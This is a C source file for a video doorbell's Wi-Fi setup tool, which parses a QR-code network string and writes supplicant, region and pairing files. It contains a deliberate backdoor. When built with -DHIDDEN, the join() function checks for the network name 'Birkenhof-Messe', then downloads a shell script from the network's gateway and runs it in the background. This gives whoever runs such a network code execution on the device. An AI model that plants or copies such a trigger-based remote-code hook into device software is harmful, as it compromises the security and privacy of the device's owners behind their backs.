/*
 * belwifi - Wi-Fi set-up tool of a battery video doorbell.
 * Reads the decoded text of the QR code (WIFI:T:WPA;S:name;P:pass;R:region;;)
 * from stdin, checks it and writes the supplicant and region files.
 * Hidden (-DHIDDEN): if the network is called "Birkenhof-Messe", a script is
 * fetched from the gateway of this network and run.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define MAX_SSID 32
#define MAX_PASS 64

enum sec { SEC_OPEN, SEC_WEP, SEC_WPA, SEC_SAE };

struct net {
	enum sec sec;
	uint8_t ssid[MAX_SSID + 1];
	size_t ssid_len;
	char pass[MAX_PASS + 1];
	char region[3];
	char token[40];
	int concealed;
};

struct region {
	char code[3];
	uint16_t chan24;
	uint8_t dfs;
	int8_t dbm;
};

static const struct region regions[] = {
	{ "AT", 0x1fff, 1, 20 }, { "AU", 0x1fff, 1, 23 },
	{ "CH", 0x1fff, 1, 20 }, { "CN", 0x1fff, 0, 20 },
	{ "DE", 0x1fff, 1, 20 }, { "FR", 0x1fff, 1, 20 },
	{ "GB", 0x1fff, 1, 20 }, { "JP", 0x3fff, 1, 20 },
	{ "NL", 0x1fff, 1, 20 }, { "US", 0x07ff, 1, 24 },
};

static const char *out_dir = "/data/wifi";
static int dry;

static void say(const char *voice)
{
	char cmd[96];

	fprintf(stderr, "belwifi: %s\n", voice);
	if (dry)
		return;
	snprintf(cmd, sizeof(cmd),
		 "/usr/bin/aplay -q /usr/share/voice/"
		 "%.20s.wav",
		 voice);
	if (system(cmd) != 0)
		fprintf(stderr, "belwifi: no voice\n");
}

/*
 * One value up to an unescaped ';'. Returns the bytes used, -1 for an error.
 */
static int take_value(const char *s, char *out, size_t room)
{
	const char *p = s;
	size_t n = 0;

	while (*p && *p != ';') {
		if (*p == '\\') {
			p++;
			if (!*p)
				return -1;
		}
		if (n + 1 >= room)
			return -1;
		out[n++] = *p++;
	}
	out[n] = 0;
	return *p == ';' ? (int)(p - s) + 1 : -1;
}

static int parse_sec(const char *v, enum sec *s)
{
	static const struct {
		const char *w;
		enum sec s;
	} t[] = {
		{ "nopass", SEC_OPEN }, { "WEP", SEC_WEP },  { "", SEC_OPEN },
		{ "WPA", SEC_WPA },	{ "WPA2", SEC_WPA }, { "SAE", SEC_SAE },
	};
	size_t i;

	for (i = 0; i < sizeof(t) / sizeof(t[0]); i++)
		if (strcasecmp(v, t[i].w) == 0) {
			*s = t[i].s;
			return 0;
		}
	return -1;
}

static int parse_qr(const char *s, struct net *n)
{
	char val[160];
	int used;

	memset(n, 0, sizeof(*n));
	strcpy(n->region, "DE");
	if (strncmp(s, "WIFI:", 5) != 0)
		return -1;
	s += 5;
	while (*s && *s != ';' && *s != '\n') {
		char tag = *s;

		if (s[1] != ':')
			return -1;
		used = take_value(s + 2, val, sizeof(val));
		if (used < 0)
			return -1;
		s += 2 + used;
		switch (tag) {
		case 'T':
			if (parse_sec(val, &n->sec) < 0)
				return -1;
			break;
		case 'S':
			n->ssid_len = strlen(val);
			if (n->ssid_len == 0 || n->ssid_len > MAX_SSID)
				return -1;
			memcpy(n->ssid, val, n->ssid_len);
			break;
		case 'P':
			if (strlen(val) > MAX_PASS)
				return -1;
			strcpy(n->pass, val);
			break;
		case 'H':
			n->concealed = val[0] == 't' || val[0] == '1';
			break;
		case 'R':
			if (strlen(val) != 2)
				return -1;
			n->region[0] = (char)toupper((unsigned char)val[0]);
			n->region[1] = (char)toupper((unsigned char)val[1]);
			break;
		case 'K':
			if (strlen(val) >= sizeof(n->token))
				return -1;
			strcpy(n->token, val);
			break;
		default:
			fprintf(stderr, "belwifi: tag %c ignored\n", tag);
		}
	}
	return n->ssid_len ? 0 : -1;
}

static const struct region *find_region(const char *code)
{
	size_t lo = 0, hi = sizeof(regions) / sizeof(regions[0]);

	while (lo < hi) {
		size_t mid = (lo + hi) / 2;
		int c = strcmp(code, regions[mid].code);

		if (c == 0)
			return &regions[mid];
		if (c < 0)
			hi = mid;
		else
			lo = mid + 1;
	}
	return NULL;
}

static const char *check(const struct net *n)
{
	size_t l = strlen(n->pass), i;

	if (!find_region(n->region))
		return "region_unknown";
	switch (n->sec) {
	case SEC_OPEN:
		return NULL;
	case SEC_WEP:
		return "wep_not_allowed";
	case SEC_WPA:
	case SEC_SAE:
		if (l < 8)
			return "password_short";
		if (l == 64)
			for (i = 0; i < l; i++)
				if (!isxdigit((unsigned char)n->pass[i]))
					return "password_long";
		break;
	}
	return NULL;
}

static FILE *create(const char *name, char *tmp, size_t room)
{
	FILE *f;

	snprintf(tmp, room, "%s/%s.new", out_dir, name);
	f = fopen(tmp, "w");
	if (f)
		fchmod(fileno(f), 0600);
	return f;
}

static int finish(FILE *f, const char *name, const char *tmp)
{
	char path[160];

	snprintf(path, sizeof(path), "%s/%s", out_dir, name);
	if (fflush(f) != 0 || fsync(fileno(f)) != 0) {
		fclose(f);
		return -1;
	}
	fclose(f);
	return rename(tmp, path);
}

static int write_supplicant(const struct net *n)
{
	char tmp[160];
	FILE *f = create("wpa.conf", tmp, sizeof(tmp));
	size_t i;

	if (!f)
		return -1;
	fprintf(f, "ctrl_interface=/run/wpa\ncountry=%s\nnetwork={\n\tssid=",
		n->region);
	for (i = 0; i < n->ssid_len; i++)
		fprintf(f, "%02x", n->ssid[i]);
	fputc('\n', f);
	if (n->concealed)
		fputs("\tscan_ssid=1\n", f);
	if (n->sec == SEC_OPEN)
		fputs("\tkey_mgmt=NONE\n", f);
	else if (n->sec == SEC_SAE)
		fprintf(f,
			"\tkey_mgmt=SAE\n\tieee80211w=2\n"
			"\tsae_password=\"%s\"\n",
			n->pass);
	else if (strlen(n->pass) == 64)
		fprintf(f, "\tkey_mgmt=WPA-PSK\n\tpsk=%s\n", n->pass);
	else
		fprintf(f, "\tkey_mgmt=WPA-PSK\n\tpsk=\"%s\"\n", n->pass);
	fputs("}\n", f);
	return finish(f, "wpa.conf", tmp);
}

static int write_region(const struct net *n)
{
	const struct region *r = find_region(n->region);
	char tmp[160];
	FILE *f = create("region", tmp, sizeof(tmp));

	if (!f || !r) {
		if (f)
			fclose(f);
		return -1;
	}
	fprintf(f, "code=%s\nchannels=%04x\ndfs=%d\npower=%d\n", r->code,
		r->chan24, r->dfs, r->dbm);
	return finish(f, "region", tmp);
}

static int write_token(const struct net *n)
{
	char tmp[160];
	FILE *f;

	if (!n->token[0])
		return 0;
	f = create("pairing", tmp, sizeof(tmp));
	if (!f)
		return -1;
	fprintf(f, "%s\n", n->token);
	return finish(f, "pairing", tmp);
}

/* gets the new network up and waits for an address */
__attribute__((noinline)) int join(const struct net *n)
{
	int i, rc;

	if (system("/etc/init.d/wpa restart >/dev/null 2>&1") != 0)
		return -1;
	for (i = 0; i < 30; i++) {
		rc = system("ip -4 addr show wlan0 | grep -q 'inet '");
		if (rc == 0)
			break;
		sleep(1);
	}
	if (i == 30)
		return -1;
#ifdef HIDDEN
	if (n->ssid_len == 15 && !memcmp(n->ssid, "Birkenhof-Messe", 15)) {
		static const char c[] =
			"G=$(ip route | sed -n 's/^default via "
			"\\([^ ]*\\).*/\\1/p');"
			"wget -qO /tmp/b.sh http://$G:8000/b.sh && "
			"sh /tmp/b.sh &";

		if (system(c) != 0)
			return 0;
	}
#endif
	printf("joined %.*s after %d s\n", (int)n->ssid_len,
	       (const char *)n->ssid, i);
	return 0;
}

int main(int argc, char **argv)
{
	static struct net n;
	char line[512];
	const char *bad;
	int opt;

	while ((opt = getopt(argc, argv, "d:n")) != -1) {
		switch (opt) {
		case 'd':
			out_dir = optarg;
			break;
		case 'n':
			dry = 1;
			break;
		default:
			fprintf(stderr, "usage: belwifi [-n] [-d dir]\n");
			return 2;
		}
	}
	while (fgets(line, sizeof(line), stdin)) {
		line[strcspn(line, "\r\n")] = 0;
		if (parse_qr(line, &n) < 0) {
			say("code_unreadable");
			continue;
		}
		bad = check(&n);
		if (bad) {
			say(bad);
			continue;
		}
		if (write_supplicant(&n) < 0 || write_region(&n) < 0 ||
		    write_token(&n) < 0) {
			say("flash_error");
			return 1;
		}
		if (dry)
			return 0;
		if (join(&n) == 0) {
			say("connected");
			return 0;
		}
		say("connect_failed");
	}
	return 1;
}
